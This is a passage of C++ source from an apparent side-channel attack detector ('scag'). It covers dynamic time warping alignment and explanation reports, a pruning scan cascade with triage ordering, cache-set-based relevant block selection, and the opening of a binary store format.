           (1.0 - dc.is_weight) * p.csp_distance;
  return p;
}

AlignedPair make_gap(const CstBbs& s, std::size_t index, bool target_side) {
  AlignedPair p;
  if (target_side) {
    p.target_index = index;
    p.target_block = s[index].block;
  } else {
    p.model_index = index;
    p.model_block = s[index].block;
  }
  p.cost = 1.0;  // the kernel's empty-sequence convention
  return p;
}

/// Full-DP alignment plus the per-row in-band minima the early-abandon
/// attribution needs. Replicates dtw() cell for cell: same band, same
/// +inf borders, same strict-< tie-breaks (diagonal, then up, then left),
/// same once-per-row deadline check — so the backtracked path reproduces
/// the kernel's accumulated cost AND path length bit-exactly.
DtwAlignment align_full(const CstBbs& a, const CstBbs& b,
                        const DtwConfig& config,
                        std::vector<double>* row_min_out) {
  static support::Counter& c_cells =
      support::Registry::global().counter("explain.dp_cells");

  DtwAlignment out;
  const std::size_t n = a.size(), m = b.size();
  if (row_min_out != nullptr) row_min_out->clear();
  if (n == 0 && m == 0) return out;
  if (n == 0 || m == 0) {
    // All unmatched, cost 1 per element; emitted in scan order so the
    // forward accumulation still reproduces the kernel's distance.
    out.result.distance = static_cast<double>(n + m);
    out.result.path_length = n + m;
    out.path.reserve(n + m);
    for (std::size_t i = 0; i < n; ++i)
      out.path.push_back(make_gap(a, i, /*target_side=*/true));
    for (std::size_t j = 0; j < m; ++j)
      out.path.push_back(make_gap(b, j, /*target_side=*/false));
    return out;
  }

  const std::size_t w = effective_band(n, m, config);
  const std::size_t stride = m + 1;
  std::vector<double> dp((n + 1) * stride, detail::kInf);
  std::vector<Step> pred((n + 1) * stride, Step::kNone);
  dp[0] = 0.0;
  if (row_min_out != nullptr) row_min_out->reserve(n);

  std::uint64_t cells = 0;
  for (std::size_t i = 1; i <= n; ++i) {
    if (config.deadline_ns != 0 &&
        support::monotonic_ns() >= config.deadline_ns)
      throw ScanTimeoutError();
    const std::size_t j_lo = i > w ? i - w : 1;
    const std::size_t j_hi = std::min(m, i + w);
    cells += j_hi - j_lo + 1;
    double row_min = detail::kInf;
    for (std::size_t j = j_lo; j <= j_hi; ++j) {
      const double c = cst_distance(a[i - 1], b[j - 1], config.distance);
      double best = dp[(i - 1) * stride + (j - 1)];
      Step step = Step::kDiag;
      if (dp[(i - 1) * stride + j] < best) {
        best = dp[(i - 1) * stride + j];
        step = Step::kUp;
      }
      if (dp[i * stride + (j - 1)] < best) {
        best = dp[i * stride + (j - 1)];
        step = Step::kLeft;
      }
      dp[i * stride + j] = best + c;
      pred[i * stride + j] = step;
      row_min = std::min(row_min, dp[i * stride + j]);
    }
    if (row_min_out != nullptr) row_min_out->push_back(row_min);
  }
  c_cells.add(cells);

  // Backtrack from (n, m). Every visited cell pays the cost of aligning
  // (i-1, j-1); the predecessor decides which indices advance.
  std::size_t i = n, j = m;
  while (i > 0 || j > 0) {
    const Step step = pred[i * stride + j];
    out.path.push_back(make_pair(a, b, i - 1, j - 1, config.distance));
    switch (step) {
      case Step::kDiag: --i; --j; break;
      case Step::kUp: --i; break;
      case Step::kLeft: --j; break;
      case Step::kNone: i = 0; j = 0; break;  // unreachable: (1,1) is kDiag
    }
  }
  std::reverse(out.path.begin(), out.path.end());

  // Re-accumulate forward: dp[cell] = dp[pred] + c along the path is the
  // exact addition chain the kernel performed, so this sum — and therefore
  // everything derived from it — is bit-identical to DtwResult::distance.
  double acc = 0.0;
  for (const AlignedPair& p : out.path) acc += p.cost;
  out.result.distance = acc;
  out.result.path_length = out.path.size();
  return out;
}

std::string fmt_double(double v) { return strfmt("%.17g", v); }

std::string json_index(std::size_t index) {
  return index == kGapIndex
             ? std::string("-1")
             : std::to_string(static_cast<unsigned long long>(index));
}

std::string pair_json(const AlignedPair& p) {
  return "{\"t\":" + json_index(p.target_index) +
         ",\"m\":" + json_index(p.model_index) +
         ",\"t_bb\":" + std::to_string(p.target_block) +
         ",\"m_bb\":" + std::to_string(p.model_block) +
         ",\"cost\":" + fmt_double(p.cost) +
         ",\"cost_bits\":" + json_quote(ieee_hex_bits(p.cost)) +
         ",\"is\":" + fmt_double(p.is_distance) +
         ",\"csp\":" + fmt_double(p.csp_distance) + "}";
}

std::string index_cell(std::size_t index, cfg::BlockId block) {
  if (index == kGapIndex) return "-";
  return strfmt("%zu (bb %llu)", index,
                static_cast<unsigned long long>(block));
}

std::string prune_cell(const PruneAttribution& p) {
  if (p.kim_prunes) return "kim-skip (ub " + pct(p.score_upper_bound) + ")";
  if (p.lb_prunes) return "lb-skip (ub " + pct(p.score_upper_bound) + ")";
  if (p.early_abandon_row >= 0)
    return strfmt("abandon@row %lld",
                  static_cast<long long>(p.early_abandon_row));
  return "exact";
}

}  // namespace

std::string ieee_hex_bits(double v) {
  static const char* hex = "0123456789abcdef";
  std::uint64_t bits = std::bit_cast<std::uint64_t>(v);
  std::string out(16, '0');
  for (int i = 15; i >= 0; --i, bits >>= 4) out[i] = hex[bits & 0xf];
  return out;
}

DtwAlignment dtw_align(const CstBbs& a, const CstBbs& b,
                       const DtwConfig& config) {
  return align_full(a, b, config, nullptr);
}

ModelExplanation explain_pair(const CstBbs& target, const AttackModel& model,
                              const DtwConfig& config, double cutoff_score) {
  const CstBbs& seq = model.sequence;
  const std::size_t n = target.size(), m = seq.size();

  ModelExplanation e;
  e.model_name = model.name;
  e.family = model.family;
  e.target_length = n;
  e.model_length = m;

  std::vector<double> row_min;
  DtwAlignment align = align_full(target, seq, config, &row_min);
  e.accumulated_cost = align.result.distance;
  e.path_length = align.result.path_length;
  e.path = std::move(align.path);
  e.distance = detail::finish_distance(align.result, n, m, config);
  e.score = detail::similarity_from_distance(e.distance, config);

  // Pruning attribution: replicate bounded_similarity's decisions at the
  // cutoff. The lower bound and the similarity bound it implies are
  // reported unconditionally; the prune/abandon verdicts only where the
  // batch path actually arms its shortcuts (a finite distance cutoff and
  // a pair big enough that they pay off).
  PruneAttribution& pr = e.prune;
  pr.cutoff_score = cutoff_score;
  pr.band_width = effective_band(n, m, config);
  pr.kim_bound = cst_bbs_distance_lower_bound_kim(target, seq, config);
  pr.lower_bound = cst_bbs_distance_lower_bound(target, seq, config);
  pr.score_upper_bound = similarity_upper_bound(target, seq, config);
  const double d_cut = detail::distance_cutoff(cutoff_score, config);
  const bool shortcuts_armed =
      std::isfinite(d_cut) && n > 0 && m > 0 && n * m > 16;
  if (shortcuts_armed) {
    // Mirrors the cascade's stage order: the kim bound never exceeds the
    // full bound, so kim_prunes implies lb_prunes.
    pr.kim_prunes = pr.kim_bound * (1.0 - detail::kPruneSlack) > d_cut;
    if (pr.lower_bound * (1.0 - detail::kPruneSlack) > d_cut) {
      pr.lb_prunes = true;
    } else {
      // Shared with bounded_dp so the attribution translates the cutoff
      // bit-identically (shortcuts_armed guarantees n, m >= 1).
      const double acc_limit =
          detail::accumulated_cutoff(d_cut, n, m, config);
      for (std::size_t i = 0; i < row_min.size(); ++i) {
        if (row_min[i] > acc_limit) {
          pr.early_abandon_row = static_cast<std::ptrdiff_t>(i + 1);
          break;
        }
      }
    }
  }
  return e;
}

ScanReport explain_scan(const Detector& detector, const CstBbs& target,
                        std::string target_name,
                        const ExplainConfig& config) {
  static support::Counter& c_requests =
      support::Registry::global().counter("explain.requests");
  support::TraceScope span("explain.scan");
  c_requests.add();

  ScanReport report;
  report.target_name = std::move(target_name);
  report.threshold = detector.threshold();
  report.paths_included = config.include_paths;
  const double cutoff =
      config.cutoff < 0.0 ? detector.threshold() : config.cutoff;

  report.models.reserve(detector.repository_size());
  for (const AttackModel& model : detector.repository())
    report.models.push_back(
        explain_pair(target, model, detector.dtw_config(), cutoff));

  // Triage attribution: where the scan cascade (core/scan_index.h) would
  // visit each model for this target. The index is maintained at
  // enrollment whether or not indexed scanning is enabled, so the report
  // can always say what triage *would* do.
  if (!report.models.empty()) {
    const SequenceFeatures tf =
        compute_sequence_features(target, detector.dtw_config().distance);
    const std::vector<std::uint32_t> order =
        detector.scan_index().scan_order(tf, target.size());
    for (std::size_t rank = 0; rank < order.size(); ++rank)
      report.models[order[rank]].prune.triage_rank = rank;
  }

  // The verdict must match Detection bit-exactly, so it goes through the
  // exact same reduction: Detector::finalize over the same scores in
  // enrollment order, then the explanations are permuted to that order.
  std::vector<ModelScore> scores;
  scores.reserve(report.models.size());
  for (const ModelExplanation& e : report.models) {
    ModelScore s;
    s.model_name = e.model_name;
    s.family = e.family;
    s.score = e.score;
    scores.push_back(std::move(s));
  }
  const Detection det =
      Detector::finalize(std::move(scores), detector.threshold());
  report.verdict = det.verdict;
  report.best_score = det.best_score;
  std::stable_sort(report.models.begin(), report.models.end(),
                   [](const ModelExplanation& a, const ModelExplanation& b) {
                     return a.score > b.score;
                   });

  // Rationale: the top-k cheapest aligned (non-gap) pairs of the best
  // model — the block-level matches the verdict rests on. Ties keep path
  // order so the rationale is deterministic.
  if (!report.models.empty() && config.top_k > 0) {
    const ModelExplanation& best = report.models.front();
    std::vector<const AlignedPair*> pairs;
    for (const AlignedPair& p : best.path)
      if (!p.is_gap()) pairs.push_back(&p);
    std::stable_sort(pairs.begin(), pairs.end(),
                     [](const AlignedPair* a, const AlignedPair* b) {
                       return a->cost < b->cost;
                     });
    const std::size_t k = std::min(config.top_k, pairs.size());
    report.rationale.reserve(k);
    for (std::size_t i = 0; i < k; ++i) {
      RationaleEntry r;
      r.model_name = best.model_name;
      r.pair = *pairs[i];
      r.share = best.accumulated_cost > 0.0
                    ? r.pair.cost / best.accumulated_cost
                    : 0.0;
      report.rationale.push_back(std::move(r));
    }
  }
  return report;
}

ScanReport explain_scan(const Detector& detector, const isa::Program& target,
                        const ExplainConfig& config) {
  const AttackModel m = detector.builder().build(target);
  return explain_scan(detector, m.sequence, target.name(), config);
}

ScanReport Detector::explain(const CstBbs& target_sequence,
                             std::string target_name,
                             const ExplainConfig& config) const {
  return explain_scan(*this, target_sequence, std::move(target_name), config);
}

ScanReport Detector::explain(const isa::Program& target,
                             const ExplainConfig& config) const {
  return explain_scan(*this, target, config);
}

std::vector<ScanReport> BatchDetector::explain_all(
    const std::vector<CstBbs>& targets, const ExplainConfig& config) const {
  // Serial on purpose: explain is a diagnostic path with O(n*m) memory per
  // pair, and its consumers are humans/files, not the hot scan loop.
  std::vector<ScanReport> out;
  out.reserve(targets.size());
  for (std::size_t i = 0; i < targets.size(); ++i)
    out.push_back(explain_scan(detector_, targets[i],
                               "target-" + std::to_string(i), config));
  return out;
}

std::string ScanReport::to_json() const {
  std::string out = "{\"schema\":\"scag-scan-report-v1\"";
  out += ",\"target\":" + json_quote(target_name);
  out += ",\"threshold\":" + fmt_double(threshold);
  out += ",\"verdict\":" + json_quote(std::string(family_abbrev(verdict)));
  out += std::string(",\"is_attack\":") + (is_attack() ? "true" : "false");
  out += ",\"best_score\":" + fmt_double(best_score);
  out += ",\"best_score_bits\":" + json_quote(ieee_hex_bits(best_score));
  out += ",\"models\":[";
  for (std::size_t i = 0; i < models.size(); ++i) {
    const ModelExplanation& e = models[i];
    if (i > 0) out += ',';
    out += "{\"model\":" + json_quote(e.model_name);
    out += ",\"family\":" + json_quote(std::string(family_abbrev(e.family)));
    out += ",\"score\":" + fmt_double(e.score);
    out += ",\"score_bits\":" + json_quote(ieee_hex_bits(e.score));
    out += ",\"distance\":" + fmt_double(e.distance);
    out += ",\"accumulated_cost\":" + fmt_double(e.accumulated_cost);
    out += ",\"accumulated_cost_bits\":" +
           json_quote(ieee_hex_bits(e.accumulated_cost));
    out += ",\"path_length\":" + std::to_string(e.path_length);
    out += ",\"target_length\":" + std::to_string(e.target_length);
    out += ",\"model_length\":" + std::to_string(e.model_length);
    out += ",\"pruning\":{\"cutoff_score\":" +
           fmt_double(e.prune.cutoff_score);
    out += ",\"kim_bound\":" + fmt_double(e.prune.kim_bound);
    out += ",\"lower_bound\":" + fmt_double(e.prune.lower_bound);
    out += ",\"score_upper_bound\":" + fmt_double(e.prune.score_upper_bound);
    out += std::string(",\"kim_prunes\":") +
           (e.prune.kim_prunes ? "true" : "false");
    out += std::string(",\"lb_prunes\":") +
           (e.prune.lb_prunes ? "true" : "false");
    out += ",\"early_abandon_row\":" +
           std::to_string(static_cast<long long>(e.prune.early_abandon_row));
    out += ",\"triage_rank\":" + std::to_string(e.prune.triage_rank);
    out += ",\"band_width\":" + std::to_string(e.prune.band_width) + "}";
    if (paths_included) {
      out += ",\"path\":[";
      for (std::size_t j = 0; j < e.path.size(); ++j) {
        if (j > 0) out += ',';
        out += pair_json(e.path[j]);
      }
      out += "]";
    }
    out += "}";
  }
  out += "],\"rationale\":[";
  for (std::size_t i = 0; i < rationale.size(); ++i) {
    const RationaleEntry& r = rationale[i];
    if (i > 0) out += ',';
    out += "{\"model\":" + json_quote(r.model_name);
    out += ",\"t\":" + json_index(r.pair.target_index);
    out += ",\"m\":" + json_index(r.pair.model_index);
    out += ",\"t_bb\":" + std::to_string(r.pair.target_block);
    out += ",\"m_bb\":" + std::to_string(r.pair.model_block);
    out += ",\"cost\":" + fmt_double(r.pair.cost);
    out += ",\"is\":" + fmt_double(r.pair.is_distance);
    out += ",\"csp\":" + fmt_double(r.pair.csp_distance);
    out += ",\"share\":" + fmt_double(r.share) + "}";
  }
  out += "]}";
  return out;
}

std::string ScanReport::to_table() const {
  std::string out = "Scan explanation: " +
                    (target_name.empty() ? "(unnamed target)" : target_name) +
                    "\n";
  out += "verdict: " + std::string(family_name(verdict)) + " (best score " +
         pct(best_score) + ", threshold " + pct(threshold) + ")\n";
  if (models.empty()) {
    out += "(empty repository: nothing to compare against)\n";
    return out;
  }

  Table t("Model evidence");
  t.header({"Model", "Family", "Score", "Distance", "Path", "Band", "Triage",
            "Pruning @" + pct(models.front().prune.cutoff_score)});
  for (const ModelExplanation& e : models) {
    t.row({e.model_name, std::string(family_abbrev(e.family)), pct(e.score),
           strfmt("%.6f", e.distance), std::to_string(e.path_length),
           std::to_string(e.prune.band_width),
           std::to_string(e.prune.triage_rank + 1), prune_cell(e.prune)});
  }
  out += t.render();

  if (!rationale.empty()) {
    Table r("Rationale: top aligned block pairs of " +
            rationale.front().model_name);
    r.header({"#", "Target elem", "Model elem", "Cost", "D_IS", "D_CSP",
              "Share"});
    for (std::size_t i = 0; i < rationale.size(); ++i) {
      const RationaleEntry& e = rationale[i];
      r.row({std::to_string(i + 1),
             index_cell(e.pair.target_index, e.pair.target_block),
             index_cell(e.pair.model_index, e.pair.model_block),
             strfmt("%.6f", e.pair.cost), strfmt("%.6f", e.pair.is_distance),
             strfmt("%.6f", e.pair.csp_distance), pct(e.share)});
    }
    out += r.render();
  }
  return out;
}

}  // namespace scag::core
