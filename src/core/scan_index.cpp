#include "core/scan_index.h"

#include <algorithm>
#include <cmath>
#include <stdexcept>
#include <utility>

#include "core/dtw_internal.h"
#include "support/events.h"
#include "support/metrics.h"
#include "support/rng.h"

namespace scag::core {

namespace {

/// Registry mirrors of the per-scan CascadeStats, so a fleet of detectors
/// reports through one process-wide substrate (docs/observability.md).
struct CascadeCounters {
  support::Counter& scans;
  support::Counter& pairs;
  support::Counter& exact;
  support::Counter& kim_pruned;
  support::Counter& envelope_pruned;
  support::Counter& early_abandoned;
  support::Counter& promoted;
  support::Counter& triage_first_best;

  static CascadeCounters& global() {
    support::Registry& r = support::Registry::global();
    static CascadeCounters c{r.counter("cascade.scans"),
                             r.counter("cascade.pairs"),
                             r.counter("cascade.exact"),
                             r.counter("cascade.kim_pruned"),
                             r.counter("cascade.envelope_pruned"),
                             r.counter("cascade.early_abandoned"),
                             r.counter("cascade.promoted"),
                             r.counter("cascade.triage_first_best")};
    return c;
  }
};

void flush_cascade_stats(const CascadeStats& st) {
  CascadeCounters& c = CascadeCounters::global();
  c.scans.add();
  c.pairs.add(st.pairs);
  c.exact.add(st.exact);
  if (st.kim_pruned != 0) c.kim_pruned.add(st.kim_pruned);
  if (st.envelope_pruned != 0) c.envelope_pruned.add(st.envelope_pruned);
  if (st.early_abandoned != 0) c.early_abandoned.add(st.early_abandoned);
  if (st.promoted != 0) c.promoted.add(st.promoted);
  if (st.triage_first_is_best) c.triage_first_best.add();

  // Journal twin of the counters above: per-scan stage attribution (one
  // prune-stage event per non-empty stage, tagged with the enclosing
  // ScanScope id), which the aggregate registry cannot reconstruct.
  if (support::events::enabled()) {
    using support::events::emit_prune_stage;
    const auto emit = [&](CascadeStage stage, std::uint64_t decided) {
      if (decided != 0)
        emit_prune_stage(static_cast<std::uint8_t>(stage), decided, st.pairs);
    };
    emit(CascadeStage::kExact, st.exact);
    emit(CascadeStage::kKimBound, st.kim_pruned);
    emit(CascadeStage::kEnvelopeBound, st.envelope_pruned);
    emit(CascadeStage::kEarlyAbandon, st.early_abandoned);
  }
}

/// The cascade proper, shared by both kernels through a per-model oracle
/// (lengths / exact / lb_kim / lb_full / bounded DP). Keeping the control
/// flow in one template is what makes the two kernels' stage decisions
/// literally the same code.
template <class Oracle>
std::vector<CascadeScore> run_cascade(std::size_t num_models,
                                      const std::vector<std::uint32_t>& order,
                                      const DtwConfig& config, Oracle&& oracle,
                                      CascadeStats* stats_out) {
  if (order.size() != num_models)
    throw std::invalid_argument(
        "cascade_scan: order must be a permutation of the repository");
  std::vector<CascadeScore> out(num_models);
  CascadeStats st;
  st.pairs = num_models;

  // The pruning cutoff is the best EXACT score seen so far — never the
  // detection threshold — so pruned entries are provably sub-best and the
  // finalize reduction is bit-identical to the exhaustive path (see the
  // header's equivalence contract). best_j tracks finalize's tie-break
  // (first enrolled among equal best) for the triage-quality stat.
  double best = 0.0;
  std::size_t best_j = num_models;
  const auto note_exact = [&](std::size_t j, double score) {
    if (best_j == num_models || score > best) {
      best = score;
      best_j = j;
      // Cutoff ratchet for the journal: when and through which model the
      // cascade tightened its prune bar. Emitted as raw score bits so a
      // reader can line the trajectory up with the verdict bit-exactly.
      support::events::emit_cascade_cutoff(score, j);
    } else if (score == best && j < best_j) {
      best_j = j;
    }
  };

  for (const std::uint32_t j : order) {
    if (config.deadline_ns != 0 &&
        support::monotonic_ns() >= config.deadline_ns)
      throw ScanTimeoutError();
    CascadeScore& cs = out[j];
    const auto [n, m] = oracle.lengths(j);
    const double d_cut = detail::distance_cutoff(best, config);
    // Same arming gate as bounded_similarity: no usable cutoff yet (the
    // first visit always lands here — similarities are positive, so best
    // ratchets off zero immediately), or a pair too small to shortcut.
    if (!std::isfinite(d_cut) || n == 0 || m == 0 || n * m <= 16) {
      cs.score = oracle.exact(j);
      cs.stage = CascadeStage::kExact;
      ++st.exact;
      note_exact(j, cs.score);
      continue;
    }

    // Stage 1: O(1) endpoints bound.
    const double d_kim = oracle.lb_kim(j);
    if (d_kim * (1.0 - detail::kPruneSlack) > d_cut) {
      cs.score = detail::similarity_from_distance(
          d_kim * (1.0 - detail::kPruneSlack), config);
      cs.stage = CascadeStage::kKimBound;
      ++st.kim_pruned;
      continue;
    }

    // Stage 2: full O(n+m) lower bound (envelopes; >= the kim bound, so a
    // prune here is genuinely the envelopes' doing).
    const double d_lb = oracle.lb_full(j);
    if (d_lb * (1.0 - detail::kPruneSlack) > d_cut) {
      cs.score = detail::similarity_from_distance(
          d_lb * (1.0 - detail::kPruneSlack), config);
      cs.stage = CascadeStage::kEnvelopeBound;
      ++st.envelope_pruned;
      continue;
    }

    // Stage 3: exact DP with early abandon.
    const BoundedScore bs = oracle.bounded(j, d_cut);
    cs.score = bs.score;
    if (bs.pruned == PruneKind::kEarlyAbandon) {
      cs.stage = CascadeStage::kEarlyAbandon;
      ++st.early_abandoned;
      continue;
    }
    cs.stage = CascadeStage::kExact;
    ++st.exact;
    note_exact(j, cs.score);
  }

  st.triage_first_is_best = !order.empty() && best_j == order.front();

  // Conservative fallback: a pruned upper bound that rounded up to the
  // best exact score could steal finalize's enrollment-order tie-break
  // from the true winner. Recompute such entries exactly (their exact
  // score is provably < best, so `best` cannot move and one pass
  // suffices). This closes the last float-rounding gap in the
  // equivalence proof; it needs a bound within ~1e-9 of the best to fire.
  for (std::size_t j = 0; j < num_models; ++j) {
    if (out[j].stage == CascadeStage::kExact || out[j].score < best) continue;
    switch (out[j].stage) {
      case CascadeStage::kKimBound: --st.kim_pruned; break;
      case CascadeStage::kEnvelopeBound: --st.envelope_pruned; break;
      case CascadeStage::kEarlyAbandon: --st.early_abandoned; break;
      case CascadeStage::kExact: break;
    }
    out[j].score = oracle.exact(j);
    out[j].stage = CascadeStage::kExact;
    ++st.exact;
    ++st.promoted;
  }

  flush_cascade_stats(st);
  if (stats_out != nullptr) *stats_out = st;
  return out;
}

struct CompiledOracle {
  const CompiledTarget& target;
  const CompiledRepository& repo;
  ElementDistanceMemo& memo;
  const DtwConfig& config;
  ElementDistanceMemo::Stats* memo_stats;

  std::pair<std::size_t, std::size_t> lengths(std::size_t j) const {
    return {target.seq.size(), repo.model(j).size()};
  }
  double exact(std::size_t j) const {
    return compiled_similarity(target, repo, j, memo, config, memo_stats);
  }
  double lb_kim(std::size_t j) const {
    return compiled_cst_bbs_distance_lower_bound_kim(target, repo, j, memo,
                                                     config, memo_stats);
  }
  double lb_full(std::size_t j) const {
    return compiled_cst_bbs_distance_lower_bound(target, repo, j, memo,
                                                 config, memo_stats);
  }
  BoundedScore bounded(std::size_t j, double d_cut) const {
    const PairContext cost{target, repo, j, memo, config.distance,
                           memo_stats};
    return detail::bounded_dp(target.seq.size(), repo.model(j).size(), cost,
                              d_cut, config);
  }

  /// Same shape as compiled.cpp's PairContext: keeps the DTW cost functor
  /// a two-index call through the memo.
  struct PairContext {
    const CompiledTarget& target;
    const CompiledRepository& repo;
    std::size_t model_index;
    ElementDistanceMemo& memo;
    const DistanceConfig& dc;
    ElementDistanceMemo::Stats* stats;

    double operator()(std::size_t i, std::size_t j) const {
      return compiled_element_distance(target, i, repo, model_index, j, memo,
                                       dc, stats);
    }
  };
};

struct StringOracle {
  const CstBbs& target;
  const std::vector<AttackModel>& repository;
  const SequenceFeatures& target_features;
  const DtwConfig& config;
  // Model-side envelope features, computed lazily: models the kim stage
  // already pruned never pay the O(m) feature sweep.
  mutable std::vector<SequenceFeatures> model_features;
  mutable std::vector<char> have_features;

  std::pair<std::size_t, std::size_t> lengths(std::size_t j) const {
    return {target.size(), repository[j].sequence.size()};
  }
  double exact(std::size_t j) const {
    return similarity(target, repository[j].sequence, config);
  }
  double lb_kim(std::size_t j) const {
    return cst_bbs_distance_lower_bound_kim(target, repository[j].sequence,
                                            config);
  }
  double lb_full(std::size_t j) const {
    if (model_features.empty()) {
      model_features.resize(repository.size());
      have_features.assign(repository.size(), 0);
    }
    if (!have_features[j]) {
      model_features[j] =
          compute_sequence_features(repository[j].sequence, config.distance);
      have_features[j] = 1;
    }
    return cst_bbs_distance_lower_bound(target, repository[j].sequence,
                                        target_features, model_features[j],
                                        config);
  }
  BoundedScore bounded(std::size_t j, double d_cut) const {
    const CstBbs& b = repository[j].sequence;
    return detail::bounded_dp(
        target.size(), b.size(),
        [this, &b](std::size_t i, std::size_t k) {
          return cst_distance(target[i], b[k], config.distance);
        },
        d_cut, config);
  }
};

}  // namespace

namespace {

/// Shared implementation over both feature forms. The per-element arrays
/// only ever feed the same sum loop, so SequenceFeatures (owning vectors)
/// and FeaturesView (spans into an arena or store mapping) produce
/// bit-identical vectors for the same sequence.
template <class F>
ml::FeatureVector triage_impl(const F& f, std::size_t length) {
  // An empty sequence has empty (infinite) envelopes; map it to the
  // origin so every coordinate stays finite for the standardizer.
  if (length == 0) return ml::FeatureVector(9, 0.0);
  const auto mean = [length](const auto& v) {
    double sum = 0.0;
    for (const double x : v) sum += x;
    return sum / static_cast<double>(length);
  };
  return ml::FeatureVector{static_cast<double>(length),
                           f.csp_lo,
                           f.csp_hi,
                           mean(f.csp),
                           f.count_lo,
                           f.count_hi,
                           mean(f.count),
                           f.mass_hi,
                           mean(f.mass)};
}

}  // namespace

ml::FeatureVector triage_features(const SequenceFeatures& f,
                                  std::size_t length) {
  return triage_impl(f, length);
}

ml::FeatureVector triage_features(const FeaturesView& f, std::size_t length) {
  return triage_impl(f, length);
}

void ScanIndex::refit() {
  standardizer_ = ml::Standardizer();
  standardizer_.fit(raw_);
  standardized_ = standardizer_.transform_all(raw_);
  std::vector<int> labels;
  labels.reserve(families_.size());
  for (const Family f : families_) labels.push_back(static_cast<int>(f));
  Rng rng(0);  // Knn::fit ignores its rng; the classifier is deterministic
  knn_.fit(standardized_, labels, kNumAttackFamilies, rng);
}

void ScanIndex::add(const SequenceFeatures& features, std::size_t length,
                    Family family) {
  add(triage_features(features, length), family);
}

void ScanIndex::add(const FeaturesView& features, std::size_t length,
                    Family family) {
  add(triage_features(features, length), family);
}

void ScanIndex::add(ml::FeatureVector triage, Family family) {
  raw_.push_back(std::move(triage));
  families_.push_back(family);
  refit();
}

void ScanIndex::load(std::vector<ml::FeatureVector> triage,
                     std::vector<Family> families) {
  raw_ = std::move(triage);
  families_ = std::move(families);
  refit();
}

Family ScanIndex::predict_family(const SequenceFeatures& features,
                                 std::size_t length) const {
  return predict_vec(triage_features(features, length));
}

Family ScanIndex::predict_family(const FeaturesView& features,
                                 std::size_t length) const {
  return predict_vec(triage_features(features, length));
}

Family ScanIndex::predict_vec(const ml::FeatureVector& triage) const {
  if (empty()) return Family::kBenign;
  const ml::FeatureVector x = standardizer_.transform(triage);
  return static_cast<Family>(knn_.predict(x));
}

std::vector<std::uint32_t> ScanIndex::scan_order(
    const SequenceFeatures& features, std::size_t length) const {
  return order_vec(triage_features(features, length));
}

std::vector<std::uint32_t> ScanIndex::scan_order(
    const FeaturesView& features, std::size_t length) const {
  return order_vec(triage_features(features, length));
}

std::vector<std::uint32_t> ScanIndex::order_vec(
    const ml::FeatureVector& triage) const {
  std::vector<std::uint32_t> order(families_.size());
  for (std::size_t j = 0; j < order.size(); ++j)
    order[j] = static_cast<std::uint32_t>(j);
  if (families_.size() < 2) return order;

  const ml::FeatureVector x = standardizer_.transform(triage);
  const Family predicted = static_cast<Family>(knn_.predict(x));
  std::vector<double> d2(families_.size(), 0.0);
  for (std::size_t j = 0; j < standardized_.size(); ++j) {
    for (std::size_t i = 0; i < x.size(); ++i) {
      const double diff = x[i] - standardized_[j][i];
      d2[j] += diff * diff;
    }
  }
  std::sort(order.begin(), order.end(),
            [&](std::uint32_t a, std::uint32_t b) {
              const int ga = families_[a] == predicted ? 0 : 1;
              const int gb = families_[b] == predicted ? 0 : 1;
              if (ga != gb) return ga < gb;
              if (d2[a] != d2[b]) return d2[a] < d2[b];
              return a < b;
            });
  return order;
}

std::vector<CascadeScore> cascade_scan(const CompiledTarget& target,
                                       const CompiledRepository& repo,
                                       const std::vector<std::uint32_t>& order,
                                       ElementDistanceMemo& memo,
                                       const DtwConfig& config,
                                       CascadeStats* stats,
                                       ElementDistanceMemo::Stats* memo_stats) {
  const CompiledOracle oracle{target, repo, memo, config, memo_stats};
  return run_cascade(repo.num_models(), order, config, oracle, stats);
}

std::vector<CascadeScore> cascade_scan(
    const CstBbs& target, const std::vector<AttackModel>& repository,
    const std::vector<std::uint32_t>& order,
    const SequenceFeatures& target_features, const DtwConfig& config,
    CascadeStats* stats) {
  const StringOracle oracle{target, repository, target_features, config};
  return run_cascade(repository.size(), order, config, oracle, stats);
}

}  // namespace scag::core
