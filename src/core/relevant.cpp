#include "core/relevant.h"

#include <map>

namespace scag::core {

RelevantResult identify_relevant_blocks(const std::vector<BbStats>& stats,
                                        const RelevantConfig& config) {
  RelevantResult result;
  const cache::Cache mapper(config.set_mapping);

  // Step 1: executed blocks with nonzero HPC value.
  for (cfg::BlockId id = 0; id < stats.size(); ++id) {
    const BbStats& s = stats[id];
    if (s.executed() && s.hpc_value >= config.min_hpc_value)
      result.potential.push_back(id);
  }

  if (config.skip_step_two) {
    result.relevant = result.potential;
    return result;
  }

  // Step 2: cache sets touched by at least two distinct potential blocks.
  std::map<std::uint32_t, std::set<cfg::BlockId>> set_to_blocks;
  for (cfg::BlockId id : result.potential) {
    for (std::uint64_t line : stats[id].lines)
      set_to_blocks[mapper.set_index(line)].insert(id);
  }
  for (const auto& [set_idx, blocks] : set_to_blocks) {
    if (blocks.size() >= 2) result.shared_sets.insert(set_idx);
  }
  for (cfg::BlockId id : result.potential) {
    bool touches_shared = false;
    for (std::uint64_t line : stats[id].lines) {
      if (result.shared_sets.count(mapper.set_index(line))) {
        touches_shared = true;
        break;
      }
    }
    if (touches_shared) result.relevant.push_back(id);
  }
  return result;
}

}  // namespace scag::core
