#include "core/store.h"

#include <algorithm>
#include <bit>
#include <cerrno>
#include <cmath>
#include <cstdio>
#include <cstring>
#include <unordered_map>
#include <unordered_set>

#include "core/scan_index.h"
#include "support/metrics.h"

#if defined(__unix__) || defined(__APPLE__)
#define SCAG_STORE_HAVE_MMAP 1
#include <fcntl.h>
#include <sys/mman.h>
#include <sys/stat.h>
#include <unistd.h>
#else
#define SCAG_STORE_HAVE_MMAP 0
#endif

namespace scag::core {

namespace {

// ---------------------------------------------------------------------------
// Format constants. The byte layout is versioned: any change here bumps
// kVersion (readers reject other versions instead of guessing).

constexpr char kMagic[8] = {'S', 'C', 'A', 'G', 'S', 'T', 'R', '1'};
constexpr std::uint32_t kVersion = 1;
constexpr std::uint32_t kEndianCheck = 0x01020304u;
// Read back as a double: rejects files written with a different
// floating-point byte layout (all scores/features are raw IEEE-754 bits).
constexpr double kDoubleProbe = 1.5;
constexpr std::uint64_t kHeaderBytes = 64;
constexpr std::uint64_t kSectionRecordBytes = 32;
constexpr std::uint64_t kSectionAlign = 64;
constexpr std::uint64_t kShardHeaderBytes = 176;
constexpr std::uint32_t kNoFamily = 0xFFFFFFFFu;
constexpr std::uint32_t kNoToken = TokenInterner::kNoToken;

// Section kinds.
constexpr std::uint32_t kSecNormStrings = 1;
constexpr std::uint32_t kSecSemStrings = 2;
